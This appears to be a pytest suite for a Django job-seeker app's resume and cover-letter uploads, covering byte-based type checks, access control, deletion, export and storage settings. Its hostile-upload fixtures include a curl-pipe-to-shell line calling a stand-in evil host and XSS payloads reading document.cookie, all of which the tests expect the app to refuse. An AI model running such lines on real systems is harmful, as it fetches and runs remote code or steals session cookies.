"""Resume and cover-letter versions: an upload is checked from its bytes (hostile files are
refused with a clear message and nothing is stored), kept under a random name, served only to
its owner (and through the admin to a coach with a live grant), attached to applications,
deleted with its file, and gone from storage with the account."""

import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.files.storage import InMemoryStorage, default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from applications.models import Application, Stage
from coaching.models import EndedBy
from coaching.services import end_grant
from documents.filetypes import DOCX, ODT, PDF, TEXT_SAMPLE, TXT_CP1252, TXT_UTF8, detect
from documents.models import Document, DocumentKind
from rejections.models import Channel

from .factories import (
    PDF_BYTES,
    ApplicationFactory,
    CoachFactory,
    DocumentFactory,
    GrantFactory,
    RejectionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

PASSWORD = "correct-horse-battery"  # tests/factories.py


@pytest.fixture(autouse=True)
def fresh_storage(settings):
    """An empty store for each test (the suite's in-memory one outlives a test's rollback)."""
    in_memory = {"BACKEND": "django.core.files.storage.InMemoryStorage"}
    settings.STORAGES = {**settings.STORAGES, "default": in_memory}


def zipped(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for i, (name, data) in enumerate(entries):
            stored = stored_first and i == 0
            archive.writestr(name, data, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx_bytes(*extra: tuple[str, bytes]) -> bytes:
    return zipped(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", b"<Relationships/>"),
            ("word/document.xml", b"<w:document>Sam Seeker, data analyst</w:document>"),
            *extra,
        ]
    )


def odt_bytes() -> bytes:
    return zipped(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"<office:document-content/>"),
            ("META-INF/manifest.xml", b"<manifest:manifest/>"),
        ],
        stored_first=True,
    )


def upload(client, name, data, *, kind="resume", label="Resume v3 — platform focus", **extra):
    content_type = extra.pop("content_type", "application/octet-stream")
    return client.post(
        reverse("documents:list"),
        {"kind": kind, "label": label, "file": SimpleUploadedFile(name, data, content_type)},
        **extra,
    )


def stored_files(owner_id) -> list[str]:
    _, names = default_storage.listdir(f"documents/{owner_id}")
    return names


# Uploads that are what they say


@pytest.mark.parametrize(
    ("name", "data", "file_type"),
    [
        ("Sam Seeker resume.pdf", PDF_BYTES, PDF),
        ("resume.DOCX", docx_bytes(), DOCX),
        ("resume.odt", odt_bytes(), ODT),
        ("letter.txt", "Dear hiring team, — Sam ✓".encode(), TXT_UTF8),
        ("letter.txt", "Dear hiring team, café".encode("cp1252"), TXT_CP1252),
    ],
    ids=["pdf", "docx", "odt", "utf-8 text", "windows-1252 text"],
)
def test_an_accepted_file_is_stored_under_a_random_name_with_its_checked_type(
    seeker_client, seeker, name, data, file_type
):
    response = upload(seeker_client, name, data, content_type="text/html", follow=True)

    document = Document.objects.get()
    assert response.redirect_chain == [(document.get_absolute_url(), 302)]
    page = response.content.decode()
    assert "Uploaded Resume v3 — platform focus." in page
    assert name in page
    assert (document.owner, document.kind, document.original_name) == (seeker, "resume", name)
    # The type the bytes showed, not what the browser said (text/html here).
    assert document.content_type == file_type.content_type
    assert document.size == len(data)
    # Stored in the seeker's folder under 32 random hex digits, never under their file name.
    folder, _, stored = document.file.name.rpartition("/")
    assert folder == f"documents/{seeker.pk}"
    assert stored.removesuffix(f".{file_type.extension}").isalnum()
    assert len(stored) == 32 + 1 + len(file_type.extension)
    with document.file.open("rb") as stored_file:
        assert stored_file.read() == data


def test_two_uploads_of_the_same_file_get_two_different_names(seeker_client, seeker):
    upload(seeker_client, "resume.pdf", PDF_BYTES)
    upload(seeker_client, "resume.pdf", PDF_BYTES, label="Resume v4")
    first, second = Document.objects.order_by("pk")
    assert first.file.name != second.file.name
    assert len(stored_files(seeker.pk)) == 2


def test_a_long_utf8_text_cut_inside_a_character_at_the_sample_end_is_still_text():
    data = b"a" * (TEXT_SAMPLE - 1) + "é and more".encode()
    assert detect(io.BytesIO(data)) == TXT_UTF8


# Hostile or wrong uploads: a clear message, nothing stored


HOSTILE = {
    "a shell script renamed .pdf": (
        "resume.pdf",
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "a web page or a script",
    ),
    "an HTML page renamed .pdf": (
        "resume.pdf",
        b"<!doctype html><script>alert(document.cookie)</script>",
        "a web page or a script",
    ),
    "an HTML page renamed .docx": (
        "resume.docx",
        b"\xef\xbb\xbf  <html><body onload=alert(1)>",
        "a web page or a script",
    ),
    "an SVG renamed .txt": ("letter.txt", b"<svg onload=alert(1)/>", "a web page or a script"),
    "plain text renamed .pdf": (
        "resume.pdf",
        b"Sam Seeker, analyst",
        "named .pdf but what is in it is plain text, not PDF",
    ),
    "a PDF renamed .docx": ("resume.docx", PDF_BYTES, "named .docx but what is in it is PDF"),
    "a zip that is not a DOCX": (
        "resume.docx",
        zipped([("photo.jpg", b"\xff\xd8\xff"), ("notes.txt", b"hi")]),
        "a zip archive, not a Word (.docx) or OpenDocument (.odt) document",
    ),
    "a zip with word/ but no content types": (
        "resume.docx",
        zipped([("word/document.xml", b"<w:document/>")]),
        "a zip archive, not a Word",
    ),
    "an OpenDocument spreadsheet renamed .odt": (
        "resume.odt",
        zipped(
            [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")], stored_first=True
        ),
        "a zip archive, not a Word",
    ),
    "a damaged zip": ("resume.docx", b"PK\x03\x04" + b"\x00garbage" * 20, "cannot be opened"),
    "a macro-enabled Word document": (
        "resume.docx",
        docx_bytes(("word/vbaProject.bin", b"\x00macro")),
        "contains macros",
    ),
    "a program named .txt": ("letter.txt", b"MZ\x90\x00\x03\x00\x00\x00", "not a document"),
    "bytes that are no text": ("letter.txt", b"\x81\x8d\x8f\x90\x9d" * 10, "not a document"),
    "an executable extension": ("resume.exe", PDF_BYTES, "Upload a PDF, Word (.docx)"),
    "no extension": ("resume", PDF_BYTES, "Upload a PDF, Word (.docx)"),
    "an empty file": ("resume.pdf", b"", "The submitted file is empty."),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_or_mislabelled_upload_is_refused_and_nothing_is_stored(
    seeker_client, seeker, case
):
    name, data, message = HOSTILE[case]
    # The browser's word is not taken either: it claims a PDF.
    response = upload(seeker_client, name, data, content_type="application/pdf")

    assert response.status_code == 200
    errors = response.context["form"].errors["file"]
    assert any(message in error for error in errors), errors
    assert message.split("’")[0] in response.content.decode().replace("&#x27;", "'")
    assert not Document.objects.exists()
    assert not default_storage.exists(f"documents/{seeker.pk}")


def test_a_file_over_the_size_limit_is_refused_with_both_sizes(seeker_client, settings):
    settings.DOCUMENT_MAX_BYTES = 1024
    response = upload(seeker_client, "resume.pdf", PDF_BYTES + b" " * 2000)
    errors = [error.replace("\xa0", " ") for error in response.context["form"].errors["file"]]
    assert errors == [
        "This file is 2.0 KB; the most is 1.0 KB. Save it without embedded fonts or large "
        "images, or as a PDF."
    ]
    assert not Document.objects.exists()


def test_the_form_says_what_it_takes_and_the_limit(seeker_client):
    page = seeker_client.get(reverse("documents:list")).content.decode().replace("\xa0", " ")
    assert "PDF, Word (.docx), OpenDocument (.odt) or plain text (.txt), up to 5.0 MB" in page
    assert 'accept=".pdf,.docx,.odt,.txt"' in page


def test_a_version_needs_a_name_and_a_kind(seeker_client):
    response = upload(seeker_client, "resume.pdf", PDF_BYTES, kind="cv", label="  ")
    form = response.context["form"]
    assert set(form.errors) == {"kind", "label"}
    assert not Document.objects.exists()


# Downloads: the owner only


def test_the_owner_downloads_the_file_as_an_attachment_never_inline(seeker_client, seeker):
    upload(seeker_client, "Résumé 2026.pdf", PDF_BYTES)
    document = Document.objects.get()

    response = seeker_client.get(document.get_download_url())

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF_BYTES
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''R%C3%A9sum%C3%A9%202026.pdf" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert set(response["Cache-Control"].split(", ")) == {"private", "no-store"}


def test_a_text_file_is_served_as_plain_text_in_its_own_encoding(seeker_client):
    upload(seeker_client, "letter.txt", "café".encode("cp1252"), kind="cover_letter")
    response = seeker_client.get(Document.objects.get().get_download_url())
    assert response["Content-Type"] == "text/plain; charset=windows-1252"


@pytest.mark.parametrize("who", ["other seeker", "coach with a grant", "anonymous"])
def test_nobody_else_downloads_it_from_the_seekers_pages(client, seeker, who):
    document = DocumentFactory(owner=seeker)
    GrantFactory(seeker=seeker, accepted_by=(coach := CoachFactory()))
    if who == "other seeker":
        client.force_login(UserFactory())
    elif who == "coach with a grant":
        client.force_login(coach)
    response = client.get(document.get_download_url())
    assert response.status_code == (302 if who == "anonymous" else 404)
    if who == "anonymous":
        assert response["Location"].startswith(reverse("login"))


def test_a_file_missing_from_storage_is_a_404_not_a_500(seeker_client, seeker):
    document = DocumentFactory(owner=seeker)
    default_storage.delete(document.file.name)
    assert seeker_client.get(document.get_download_url()).status_code == 404


def test_there_is_no_public_address_for_the_files(client, seeker):
    document = DocumentFactory(owner=seeker)
    for url in (f"/{document.file.name}", f"/media/{document.file.name}"):
        client.force_login(seeker)
        assert client.get(url).status_code == 404


# The coach's admin: read-only, a download through the grant only


def admin_download(document):
    return reverse("admin:documents_document_download", args=[document.pk])


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("granted coach", 200),
        ("revoked coach", 404),
        ("other coach", 404),
        ("superuser", 200),
        ("the seeker", 302),  # not staff: the admin's login
    ],
)
def test_in_the_admin_only_a_coach_with_a_live_grant_downloads_a_clients_file(
    client, seeker, who, status
):
    document = DocumentFactory(owner=seeker, original_name="cv.pdf")
    granted, revoked, other = CoachFactory(), CoachFactory(), CoachFactory()
    GrantFactory(seeker=seeker, accepted_by=granted)
    end_grant(grant=GrantFactory(seeker=seeker, accepted_by=revoked), by=EndedBy.SEEKER)
    GrantFactory(seeker=UserFactory(), accepted_by=other)
    superuser = UserFactory(is_staff=True, is_superuser=True)
    user = {
        "granted coach": granted,
        "revoked coach": revoked,
        "other coach": other,
        "superuser": superuser,
        "the seeker": seeker,
    }[who]
    client.force_login(user)

    response = client.get(admin_download(document))

    assert response.status_code == status
    if status == 200:
        assert b"".join(response.streaming_content) == PDF_BYTES
        assert response["Content-Disposition"] == 'attachment; filename="cv.pdf"'
        assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))


def test_the_coach_sees_the_version_read_only_with_its_download_link(client, seeker):
    coach = CoachFactory()
    GrantFactory(seeker=seeker, accepted_by=coach)
    document = DocumentFactory(owner=seeker, label="Resume v3 — platform focus")
    application = ApplicationFactory(owner=seeker, resume=document)
    client.force_login(coach)

    page = client.get(reverse("admin:documents_document_change", args=[document.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    assert f'href="{admin_download(document)}"' in html
    assert 'type="file"' not in html and 'name="label"' not in html
    app_page = client.get(reverse("admin:applications_application_change", args=[application.pk]))
    assert "Resume v3 — platform focus" in app_page.content.decode()


def test_a_superuser_renames_in_the_admin_but_adds_no_file_there_and_deleting_removes_it(
    client, seeker, django_capture_on_commit_callbacks
):
    document = DocumentFactory(owner=seeker)
    name = document.file.name
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    assert client.get(reverse("admin:documents_document_add")).status_code == 403

    change = reverse("admin:documents_document_change", args=[document.pk])
    assert client.post(change, {"label": "Renamed"}).status_code == 302
    document.refresh_from_db()
    assert (document.label, document.file.name) == ("Renamed", name)

    with django_capture_on_commit_callbacks(execute=True):
        delete_url = reverse("admin:documents_document_delete", args=[document.pk])
        assert client.post(delete_url, {"post": "yes"}).status_code == 302
    assert not Document.objects.exists()
    assert not default_storage.exists(name)


# Rename, delete


def test_renaming_changes_only_the_name(seeker_client, seeker):
    document = DocumentFactory(owner=seeker, label="Resume v3")
    name = document.file.name
    response = seeker_client.post(
        reverse("documents:rename", args=[document.pk]), {"label": "  Resume v3 — data  "}
    )
    assert response.status_code == 302
    document.refresh_from_db()
    assert (document.label, document.kind, document.file.name) == (
        "Resume v3 — data",
        DocumentKind.RESUME,
        name,
    )


def test_deleting_a_version_removes_its_file_and_the_applications_keep_the_rest(
    seeker_client, seeker, django_capture_on_commit_callbacks
):
    document = DocumentFactory(owner=seeker)
    kept = DocumentFactory(owner=seeker)
    application = ApplicationFactory(owner=seeker, resume=document)
    name = document.file.name

    with django_capture_on_commit_callbacks(execute=True):
        response = seeker_client.post(reverse("documents:delete", args=[document.pk]), follow=True)

    assert f"Deleted {document.label}." in response.content.decode()
    assert not default_storage.exists(name)
    assert default_storage.exists(kept.file.name)
    application.refresh_from_db()
    assert application.resume is None and application.role_title


def test_the_list_shows_each_kind_and_how_often_each_went_out(seeker_client, seeker):
    resume = DocumentFactory(owner=seeker, label="Resume v3 — platform focus")
    letter = DocumentFactory(owner=seeker, kind=DocumentKind.COVER_LETTER, label="Letter A")
    ApplicationFactory.create_batch(2, owner=seeker, resume=resume, cover_letter=letter)
    ApplicationFactory(owner=seeker, resume=resume)
    DocumentFactory(owner=UserFactory(), label="Not mine")

    page = seeker_client.get(reverse("documents:list")).content.decode()

    resumes, letters = page.split('id="letters-heading"')
    assert "Resume v3 — platform focus" in resumes and "sent with 3 applications" in resumes
    assert "Letter A" in letters and "sent with 2 applications" in letters
    assert "Not mine" not in page


def test_documents_are_in_the_account_menu(seeker_client):
    page = seeker_client.get(reverse("dashboard")).content.decode()
    assert f'href="{reverse("documents:list")}">Documents</a>' in page


# Which version went with an application


def application_data(application, **changes):
    data = {
        "company": application.company_id,
        "role_title": application.role_title,
        "stage": application.stage,
        "excitement": 3,
        "applied_on": application.applied_on.isoformat(),
        "source": "job_board",
        "salary_currency": "USD",
    }
    return data | changes


def test_the_form_offers_only_the_seekers_own_versions_of_each_kind(seeker_client, seeker):
    resume = DocumentFactory(owner=seeker, label="My resume")
    letter = DocumentFactory(owner=seeker, kind=DocumentKind.COVER_LETTER, label="My letter")
    DocumentFactory(owner=UserFactory(), label="Their resume")
    application = ApplicationFactory(owner=seeker)

    form = seeker_client.get(reverse("applications:update", args=[application.pk])).context["form"]

    assert list(form.fields["resume"].queryset) == [resume]
    assert list(form.fields["cover_letter"].queryset) == [letter]


@pytest.mark.parametrize("whose", ["another seeker's", "a cover letter as the"])
def test_a_version_that_is_not_the_seekers_own_resume_is_a_form_error(seeker_client, seeker, whose):
    application = ApplicationFactory(owner=seeker)
    if whose == "another seeker's":
        wrong = DocumentFactory(owner=UserFactory())
    else:
        wrong = DocumentFactory(owner=seeker, kind=DocumentKind.COVER_LETTER)
    url = reverse("applications:update", args=[application.pk])

    response = seeker_client.post(url, application_data(application, resume=wrong.pk))

    assert response.status_code == 200
    assert "Select a valid choice" in response.context["form"].errors["resume"][0]
    application.refresh_from_db()
    assert application.resume is None


def test_the_versions_sent_are_saved_and_shown_on_the_application(seeker_client, seeker):
    resume = DocumentFactory(owner=seeker, label="Resume v3 — platform focus")
    letter = DocumentFactory(owner=seeker, kind=DocumentKind.COVER_LETTER, label="Letter A")
    application = ApplicationFactory(owner=seeker)
    url = reverse("applications:update", args=[application.pk])

    seeker_client.post(url, application_data(application, resume=resume.pk, cover_letter=letter.pk))

    application.refresh_from_db()
    assert (application.resume, application.cover_letter) == (resume, letter)
    page = seeker_client.get(application.get_absolute_url()).content.decode()
    assert "Sent with it" in page
    assert f'<a href="{resume.get_download_url()}">Resume v3 — platform focus</a>' in page
    assert f'<a href="{letter.get_download_url()}">Letter A</a>' in page


# The account: export, deletion


def test_the_export_lists_the_documents_metadata_and_which_went_where(seeker_client, seeker):
    document = DocumentFactory(owner=seeker, label="Resume v3")
    application = ApplicationFactory(owner=seeker, resume=document)
    data = seeker_client.get(reverse("account_export")).json()
    (exported,) = data["documents"]
    assert exported == {
        "id": document.pk,
        "kind": "resume",
        "label": "Resume v3",
        "original_name": "resume.pdf",
        "content_type": "application/pdf",
        "size": len(PDF_BYTES),
        "uploaded_at": exported["uploaded_at"],
    }
    (row,) = [a for a in data["applications"] if a["id"] == application.pk]
    assert (row["resume_id"], row["cover_letter_id"]) == (document.pk, None)


def test_deleting_the_account_removes_its_files_from_real_local_storage(
    client, seeker, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path},
        },
    }
    other = UserFactory()
    client.force_login(other)
    upload(client, "theirs.pdf", PDF_BYTES)
    client.force_login(seeker)
    upload(client, "resume.pdf", PDF_BYTES)
    upload(client, "letter.docx", docx_bytes(), kind="cover_letter", label="Letter")
    mine = tmp_path / "documents" / str(seeker.pk)
    theirs = tmp_path / "documents" / str(other.pk)
    assert len(list(mine.iterdir())) == 2 and len(list(theirs.iterdir())) == 1

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("account_delete"), {"password": PASSWORD, "confirm_email": seeker.email}
        )

    assert response.status_code == 302
    assert list(mine.iterdir()) == []
    assert len(list(theirs.iterdir())) == 1
    assert Document.objects.count() == 1


def test_a_file_the_store_cannot_delete_is_logged_and_the_deletion_stands(
    seeker_client, seeker, monkeypatch, caplog, django_capture_on_commit_callbacks
):
    document = DocumentFactory(owner=seeker)

    def refuse(storage, name):
        raise OSError("read-only file system")

    monkeypatch.setattr(InMemoryStorage, "delete", refuse)
    with django_capture_on_commit_callbacks(execute=True):
        seeker_client.post(reverse("documents:delete", args=[document.pk]))
    assert not Document.objects.exists()
    assert f"Could not delete the stored file {document.file.name}" in caplog.text


# Insights: the response rate by resume version


def test_insights_count_responses_by_resume_version_as_the_funnel_does(seeker_client, seeker):
    v1 = DocumentFactory(owner=seeker, label="Resume v1")
    v2 = DocumentFactory(owner=seeker, label="Resume v2 — platform")
    DocumentFactory(owner=seeker, label="Never sent")
    applied = timezone.localdate() - timedelta(days=20)
    for stage in (Stage.APPLIED, Stage.APPLIED, Stage.SCREENING):
        ApplicationFactory(owner=seeker, resume=v1, stage=stage, applied_on=applied)
    ApplicationFactory(owner=seeker, resume=v2, stage=Stage.INTERVIEWING, applied_on=applied)
    said_no = ApplicationFactory(owner=seeker, resume=v2, stage=Stage.APPLIED, applied_on=applied)
    RejectionFactory(application=said_no, channel=Channel.EMAIL)
    silent = ApplicationFactory(owner=seeker, resume=v2, stage=Stage.APPLIED, applied_on=applied)
    RejectionFactory(application=silent, channel=Channel.SILENCE)  # no answer
    ApplicationFactory(owner=seeker, stage=Stage.APPLIED, applied_on=applied)
    ApplicationFactory(owner=seeker, resume=v1, stage=Stage.WISHLIST)  # not applied: not counted

    response = seeker_client.get(reverse("insights:index"))

    rows = [
        (row.label, row.applied, row.responded, row.response_rate)
        for row in response.context["data"].resumes
    ]
    assert rows == [
        ("Resume v1", 3, 1, "33%"),
        ("Resume v2 — platform", 3, 2, "67%"),
        ("No resume noted", 1, 0, "0%"),
    ]
    funnel = response.context["data"].funnel
    assert funnel.steps[1].count == sum(row[2] for row in rows)  # the same responses
    page = response.content.decode()
    assert "Response rate by resume version" in page
    assert '<th scope="row">Resume v2 — platform</th>' in page
    assert "Never sent" not in page
    assert Application.objects.filter(resume=v1).count() == 4


def test_insights_say_nothing_yet_when_no_application_notes_a_resume(seeker_client, seeker):
    ApplicationFactory(owner=seeker, stage=Stage.APPLIED)
    page = seeker_client.get(reverse("insights:index")).content.decode()
    assert "Nothing yet: no application in this range says which resume went with it." in page


# Where the files are kept, from the environment (no network: only the settings are read)

SHOW_STORAGE = (
    "import json; from django.conf import settings; "
    "print(json.dumps(settings.STORAGES['default'], default=str))"
)


def test_local_files_by_default_under_media_root(tmp_path):
    from .test_settings_env import run_settings

    result = run_settings({"DJANGO_DEBUG": "1", "MEDIA_ROOT": str(tmp_path)}, SHOW_STORAGE)
    assert json.loads(result.stdout) == {
        "BACKEND": "django.core.files.storage.FileSystemStorage",
        "OPTIONS": {"location": str(tmp_path)},
    }


def test_an_s3_compatible_bucket_when_the_environment_names_one():
    from .test_settings_env import run_settings

    env = {
        "DJANGO_DEBUG": "1",
        "AWS_STORAGE_BUCKET_NAME": "second-chance-documents",
        "AWS_S3_ENDPOINT_URL": "https://s3.fr-par.scw.cloud",
        "AWS_S3_REGION_NAME": "fr-par",
        "AWS_ACCESS_KEY_ID": "SCWKEY",
        "AWS_SECRET_ACCESS_KEY": "s3cret",
        "AWS_LOCATION": "/prod/",
    }
    show = SHOW_STORAGE + (
        "; from django.core.files.storage import storages; s = storages['default']; "
        "print(type(s).__name__, s.bucket_name, s.querystring_auth, s.default_acl, s.location)"
    )
    result = run_settings(env, show)
    assert result.returncode == 0, result.stderr
    storages, storage = result.stdout.strip().splitlines()
    assert json.loads(storages) == {
        "BACKEND": "storages.backends.s3.S3Storage",
        "OPTIONS": {
            "bucket_name": "second-chance-documents",
            "default_acl": "private",
            "querystring_auth": False,
            "file_overwrite": False,
            "location": "prod",
            "endpoint_url": "https://s3.fr-par.scw.cloud",
            "region_name": "fr-par",
            "access_key": "SCWKEY",
            "secret_key": "s3cret",
        },
    }
    # django-storages builds its storage from them (without a request to the bucket).
    assert storage == "S3Storage second-chance-documents False private prod"


def test_on_aws_the_keys_and_region_may_come_from_the_machines_role():
    from .test_settings_env import run_settings

    env = {"DJANGO_DEBUG": "1", "AWS_STORAGE_BUCKET_NAME": "docs"}
    options = json.loads(run_settings(env, SHOW_STORAGE).stdout)["OPTIONS"]
    assert options["endpoint_url"] is options["access_key"] is options["secret_key"] is None
    assert (options["bucket_name"], options["location"]) == ("docs", "")
